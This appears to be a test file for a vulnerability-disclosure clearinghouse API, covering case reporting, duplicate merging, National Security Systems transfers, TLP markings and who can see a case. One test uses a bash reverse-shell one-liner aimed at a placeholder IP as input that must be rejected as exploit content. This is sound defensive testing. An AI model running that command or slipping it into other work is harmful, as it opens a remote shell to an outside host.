import { codeOf, recordOf } from '../../../testing/send-change.js';
import { officer, openStage, type Stage } from '../../../testing/stage.js';
import { publicPrincipal, type Principal } from '../../contract/identity/principal.js';
import { Clearinghouse, clerk, memberOf, reporter, SSVC } from '../testing/clearinghouse.js';
import { ToldFacts } from '../testing/told-facts.js';

let stage: Stage;
let at: Clearinghouse;
beforeAll(async () => {
  stage = await openStage({ lineTo: new ToldFacts().lineTo });
  at = new Clearinghouse(stage);
});
afterAll(() => stage.close());

test('an organization reports, and the case says who found it, how, and how it is to be handled', async () => {
  const changed = await at.submitCase({
    finderCredits: ['R. Researcher (Example Research)'],
    originRefs: ['Example tracker 12'],
    reporterChain: ['Example Finder'],
    handlingId: 'ER-12',
    cveIds: ['cve-2026-10001'],
    sectors: ['WATER_AND_WASTEWATER'],
  });
  expect(recordOf(changed)).toMatchObject({
    state: 'REPORTED',
    reportedBy: 'Example Research',
    finderCredits: ['R. Researcher (Example Research)'],
    reporterChain: ['Example Finder', 'Example Research'],
    handlingIds: [{ organization: 'Example Research', identifier: 'ER-12' }],
    cveIds: ['CVE-2026-10001'],
    marking: { banner: 'CUI//ISVI', tlp: 'AMBER' },
    steps: [{ state: 'REPORTED', on: '2026-11-21' }],
  });
});

test.each([
  ['submitTreasuryCase', 'summary', reporter],
  ['updateTreasuryCase', 'reason', clerk],
])('exploit code is refused by %s and not kept', async (mutation, field, as) => {
  const payload = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1';
  const input =
    mutation === 'submitTreasuryCase'
      ? { title: 'One', discoveryMethod: 'HUMAN', affected: [{ vendor: 'V', product: 'P' }] }
      : { id: await at.reported(), expectedVersion: 1, state: 'ON_HOLD' };
  const changed = await at.ofCase(mutation, { ...input, [field]: payload }, as);
  expect(changed.userErrors).toMatchObject([
    { code: 'EXPLOIT_CONTENT_FORBIDDEN', field: ['input', field] },
  ]);
  const kept = await stage.databaseOf('treasury').collection('events').findOne({ reason: payload });
  expect(kept).toBeNull();
});

test.each([
  [{ cveIds: ['2026-1'] }],
  [{ cwes: ['787'] }],
  [{ ghsaIds: ['GHSA-1'] }],
  [{ osvIds: ['12'] }],
  [{ cvssVector: '9.8' }],
  [{ affected: [] }],
  [{ discoveryMethod: 'HUMAN', discoveryModel: 'Example Model 1' }],
])('a report with %j is refused', async (input) => {
  expect(codeOf(await at.submitCase(input))).toBe('INPUT_INVALID');
});

describe('duplicates', () => {
  test('give all their credits to the case that was first, and to what that is a duplicate of', async () => {
    const first = await at.reported({ finderCredits: ['First'], originRefs: ['One'] });
    const second = await at.reported({ finderCredits: ['Second', 'First'], handlingId: '2' });
    const third = await at.reported({ finderCredits: ['Third'], reporterChain: ['Relay'] });
    const step = { expectedVersion: 1, state: 'DUPLICATE' };
    const asSecond = await at.updateCase({ ...step, id: second, duplicateOf: first });
    expect(recordOf(asSecond)).toMatchObject({ state: 'DUPLICATE', duplicateOf: { id: first } });
    const late = { finderCredits: ['Late'], originRefs: ['Two'] };
    recordOf(await at.updateCase({ ...step, ...late, id: third, duplicateOf: second }));
    const { data } = await stage.ask<{ clearinghouseCase: unknown }>(
      'query ($id: ID!) { clearinghouseCase(id: $id) { version finderCredits originRefs reporterChain handlingIds { identifier } } }',
      { id: first },
      clerk,
    );
    expect(data?.clearinghouseCase).toEqual({
      version: 3,
      finderCredits: ['First', 'Second', 'Third', 'Late'],
      originRefs: ['One', 'Two'],
      reporterChain: ['Example Research', 'Relay'],
      handlingIds: [{ identifier: '2' }],
    });
  });

  test('never lead back to themselves', async () => {
    const [a, b, c] = [await at.reported(), await at.reported(), await at.reported()];
    const step = (id: string | undefined, duplicateOf: string | undefined) =>
      at.updateCase({ id, duplicateOf, expectedVersion: 1, state: 'DUPLICATE' });
    expect(codeOf(await step(a, a))).toBe('DUPLICATE_CYCLE');
    expect(codeOf(await step(b, a))).toBeUndefined();
    expect(codeOf(await step(c, b))).toBeUndefined();
    // The first got credits twice meanwhile.
    const back = { id: a, duplicateOf: c, expectedVersion: 3, state: 'DUPLICATE' };
    expect(codeOf(await at.updateCase(back))).toBe('DUPLICATE_CYCLE');
    expect(codeOf(await new Clearinghouse(stage, 'askSubgraph').updateCase(back))).toBe(
      'DUPLICATE_CYCLE',
    );
  });

  test('name a case that is there', async () => {
    const id = await at.reported();
    const changed = await at.updateCase({
      id,
      expectedVersion: 1,
      state: 'DUPLICATE',
      duplicateOf: 'no',
    });
    expect(codeOf(changed)).toBe('NOT_FOUND');
  });

  test('do not carry what few may know to what many may', async () => {
    const wide = await at.reported();
    const narrow = await at.reported({ tlp: 'RED', finderCredits: ['Secret'] });
    const step = { expectedVersion: 1, state: 'DUPLICATE' };
    const refused = await at.updateCase({ ...step, id: narrow, duplicateOf: wide });
    expect(codeOf(refused)).toBe('MARKING_OVERRIDE');
    const turned = await at.updateCase({ ...step, id: wide, duplicateOf: narrow });
    expect(codeOf(turned)).toBeUndefined();
  });
});

describe('National Security Systems', () => {
  test('a case that affects them goes to NSA as an opaque reference, and nowhere else', async () => {
    const id = await at.reported({ affectsNationalSecuritySystems: true });
    const step = { id, expectedVersion: 1 };
    expect(codeOf(await at.updateCase({ ...step, state: 'DECONFLICTED' }))).toBe('SKIPPED_STATE');
    const elsewhere = { ...step, state: 'TRANSFERRED', transferTo: 'Example Coordinator' };
    expect(codeOf(await at.updateCase(elsewhere))).toBe('INPUT_INVALID');
    const transferred = recordOf(await at.updateCase({ ...step, state: 'TRANSFERRED' }));
    expect(transferred['transfer']).toEqual({
      to: 'NSA',
      reference: expect.stringMatching(/^[0-9a-f-]{36}$/),
    });
    expect(JSON.stringify(transferred['transfer'])).not.toContain(id);
  });

  test('once it is known that they are affected, it stays known', async () => {
    const id = await at.reported();
    const nss = { id, expectedVersion: 1, affectsNationalSecuritySystems: true };
    expect(codeOf(await at.updateCase(nss))).toBeUndefined();
    const taken = { ...nss, expectedVersion: 2, affectsNationalSecuritySystems: false };
    expect(codeOf(await at.updateCase(taken))).toBe('INPUT_INVALID');
    expect(codeOf(await at.updateCase({ id, expectedVersion: 2, state: 'DECONFLICTED' }))).toBe(
      'SKIPPED_STATE',
    );
  });

  test('such a case is no duplicate, which would give what is in it to another', async () => {
    const original = await at.reported();
    const known = await at.reported({
      affectsNationalSecuritySystems: true,
      originRefs: ['Secret tracker 1'],
    });
    const foundOut = await at.reported({ originRefs: ['Secret tracker 2'] });
    const step = { expectedVersion: 1, state: 'DUPLICATE', duplicateOf: original };
    expect(codeOf(await at.updateCase({ ...step, id: known }))).toBe('SKIPPED_STATE');
    const nss = { affectsNationalSecuritySystems: true };
    expect(codeOf(await at.updateCase({ ...step, ...nss, id: foundOut }))).toBe('SKIPPED_STATE');
    const { data } = await stage.ask<{ clearinghouseCase: unknown }>(
      'query ($id: ID!) { clearinghouseCase(id: $id) { version originRefs } }',
      { id: original },
      clerk,
    );
    expect(data?.clearinghouseCase).toEqual({ version: 1, originRefs: [] });
  });

  test('any other case is transferred to a coordinator that is named', async () => {
    const id = await at.reported();
    const step = { id, expectedVersion: 1, state: 'TRANSFERRED' };
    expect(codeOf(await at.updateCase(step))).toBe('INPUT_INVALID');
    const given = await at.updateCase({ ...step, transferTo: 'Example Coordinator' });
    expect(recordOf(given)['transfer']).toMatchObject({ to: 'Example Coordinator' });
  });
});

test('a case that is over does not change', async () => {
  const id = await at.reported();
  await at.ofCase('withdrawTreasuryCase', { id, expectedVersion: 1 }, reporter);
  expect(codeOf(await at.updateCase({ id, expectedVersion: 2, ssvc: SSVC }))).toBe('SKIPPED_STATE');
});

describe('who knows of a case', () => {
  const outsider = memberOf('Example Outsider');
  const seenBy = async (as: Principal, id: string, way: 'ask' | 'askSubgraph' = 'ask') => {
    const query = `query ($id: ID!, $cve: [ID!]) {
      clearinghouseCase(id: $id) { id }
      clearinghouseCases(filter: { cve: $cve }) { totalCount nodes { id } }
    }`;
    interface Seen {
      readonly clearinghouseCase: { readonly id: string } | null;
      readonly clearinghouseCases: { readonly totalCount: number };
    }
    const variables = { id, cve: [cveOf[id]] };
    const { data } =
      way === 'ask'
        ? await stage.ask<Seen>(query, variables, as)
        : await stage.askSubgraph<Seen>('treasury', query, variables, as);
    return [data?.clearinghouseCase?.id ?? null, data?.clearinghouseCases.totalCount];
  };
  const cveOf: Record<string, string> = {};
  let shared: string;
  let kept: string;
  beforeAll(async () => {
    shared = await at.reported({ cveIds: ['CVE-2026-20001'] });
    kept = await at.reported({ cveIds: ['CVE-2026-20002'], tlp: 'AMBER_STRICT' });
    Object.assign(cveOf, { [shared]: 'CVE-2026-20001', [kept]: 'CVE-2026-20002' });
  });

  test.each(['ask', 'askSubgraph'] as const)(
    'by %s: who takes part, and officials as far as the sharing promise goes',
    async (way) => {
      for (const id of [shared, kept]) {
        for (const as of [reporter, clerk]) expect(await seenBy(as, id, way)).toEqual([id, 1]);
        for (const as of [
          publicPrincipal,
          outsider,
          { ...officer('CISA'), clearance: 'U' as const },
        ]) {
          expect(await seenBy(as, id, way)).toEqual([null, 0]);
        }
      }
      expect(await seenBy(officer('CISA'), shared, way)).toEqual([shared, 1]);
      expect(await seenBy(officer('CISA'), kept, way)).toEqual([null, 0]);
    },
  );

  test('a change of a case that one may not know of is answered like one of none', async () => {
    const answers = [shared, 'TREASURY:clearinghouseCase:never'].map(async (id) => {
      const input = { id, expectedVersion: 1 };
      const { userErrors } = await at.ofCase('withdrawTreasuryCase', input, outsider);
      return JSON.stringify(userErrors).replaceAll(id, '…');
    });
    const [ofOne, ofNone] = await Promise.all(answers);
    expect(ofOne).toBe(ofNone);
    expect(ofOne).toContain('NOT_FOUND');
  });

  test('a vulnerability lists the cases about it, of those that one may know of', async () => {
    const query = `query ($of: [_Any!]!) {
      _entities(representations: $of) { ... on Vulnerability { cveId clearinghouseCases { totalCount } } }
    }`;
    const of = [{ __typename: 'Vulnerability', cveId: 'CVE-2026-20002' }];
    const told = async (as: Principal) =>
      (await stage.askSubgraph('treasury', query, { of }, as)).data;
    expect(await told(clerk)).toMatchObject({
      _entities: [{ clearinghouseCases: { totalCount: 1 } }],
    });
    expect(await told(officer('CISA'))).toMatchObject({
      _entities: [{ clearinghouseCases: { totalCount: 0 } }],
    });
  });
});
